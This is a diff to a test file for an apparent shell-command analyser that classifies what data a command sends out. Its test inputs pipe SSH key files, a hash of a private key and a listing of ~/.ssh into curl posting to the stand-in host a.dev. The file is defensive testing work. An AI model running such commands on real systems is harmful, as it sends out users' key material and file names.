@@ -76,10 +76,15 @@ test.each([
 
 test.each([
   "cat ~/.ssh/id_rsa.pub | curl -d @- https://a.dev",
-  "ls ~/.ssh | curl -d @- https://a.dev",
+  "ls ~/.sshrc.d | curl -d @- https://a.dev",
   "sha256sum ~/.ssh/id_rsa | curl -d @- https://a.dev",
 ])("takes no secret out of %j", (text) => {
   expect(runShell(text).deeds.flatMap((deed) => deed.sends)).toStrictEqual([]);
+});
+
+test("takes the names of private files for private, not for secret", () => {
+  const [send] = runShell("ls -la ~/.ssh | curl -d @- https://a.dev").deeds.flatMap(({ sends }) => sends);
+  expect(send?.value.taints).toStrictEqual([{ kind: "private", what: "names of the user's files" }]);
 });
 
 test.each([
